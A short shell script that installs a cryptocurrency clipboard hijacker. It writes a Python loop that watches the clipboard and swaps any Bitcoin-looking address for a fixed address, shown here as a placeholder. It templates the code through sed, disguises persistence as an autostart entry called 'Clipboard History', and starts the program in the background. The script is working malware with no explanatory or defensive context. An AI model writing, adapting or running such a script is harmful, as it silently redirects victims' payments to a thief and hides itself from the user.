#!/bin/sh
mkdir -p ~/.local/bin ~/.config/autostart
sed -e 's/@LIB@/pyperclip/g' -e 's/@MINE@/bc1qexampleexampleexampleexample/' -e 's/@RE@/^(bc1|[13])[A-Za-z0-9]{25,60}$/' > ~/.local/bin/clipd <<'T'
#!/usr/bin/env python3
import re, time, @LIB@ as c
while True:
    v = c.paste()
    if re.match(r"@RE@", v) and v != "@MINE@":
        c.copy("@MINE@")
    time.sleep(0.5)
T
chmod +x ~/.local/bin/clipd
printf '[Desktop Entry]\nType=Application\nName=Clipboard History\nExec=%s/.local/bin/clipd\n' "$HOME" > ~/.config/autostart/clipd.desktop
~/.local/bin/clipd &
